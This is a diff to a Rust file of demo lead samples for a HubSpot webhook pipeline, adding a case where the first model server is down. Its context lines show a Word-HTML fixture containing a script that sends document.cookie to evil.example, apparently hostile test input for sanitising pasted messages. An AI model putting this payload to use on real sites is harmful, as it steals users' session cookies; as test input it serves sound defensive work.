@@ -1,4 +1,4 @@
-//! The ten leads of the demo: who writes what, what happens around it, and how it must end.
+//! The eleven leads of the demo: who writes what, what happens around it, and how it must end.
 //!
 //! Told to HubSpot by a form, most reach the desk as HubSpot's workflow action "send a webhook" posts them: the contact
 //! record with every property's value and versions (`developers.hubspot.com`, legacy contact record). One lives in
@@ -37,6 +37,8 @@ pub(super) enum Around {
     Nothing,
     /// The modem is unplugged before it comes, and plugged in afterwards.
     ModemUnplugged,
+    /// The first model's server is down.
+    ModelDown,
     /// The option of its class is removed in HubSpot before it comes; that is mended, and the dead letter requeued.
     OptionRemoved(Label),
 }
@@ -103,7 +105,7 @@ const FROM_WORD: &str = "<div class=\"WordSection1\"><style>p.MsoNormal{margin:0
 <script>fetch('https://evil.example/'+document.cookie)</script><!-- [if gte mso 9] --></div>";
 
 /// The leads, in the order in which they come.
-pub(super) const SAMPLES: [Sample; 10] = [
+pub(super) const SAMPLES: [Sample; 11] = [
     Sample {
         name: "urgent",
         title: "A buyer with a date",
@@ -279,6 +281,22 @@ pub(super) const SAMPLES: [Sample; 10] = [
         around: Around::Nothing,
         answer: 200,
         want: Want::Lead(Label::UrgentBuyer, &[BY_MODEM, BY_MODEM, SF_FIELDS, SF_NOTE, SF_NOTE]),
+    },
+    Sample {
+        name: "second-model",
+        title: "A buyer while the model is down",
+        about: "The server of the first model doesn't answer. The next one on the list is asked, within the same seconds.",
+        person: Person {
+            first: "Kofi",
+            last: "Mensah",
+            email: "kofi@mensah-parcels.example",
+            phone: "+1 303 555 0163",
+            record: Record::Hubspot(111),
+        },
+        message: Some("Please call me today: we want to buy 15 scanners this week, and the budget is approved."),
+        around: Around::ModelDown,
+        answer: 202,
+        want: Want::Lead(Label::UrgentBuyer, &[BY_MODEM, BY_MODEM, FIELDS, NOTE, NOTE]),
     },
 ];
 
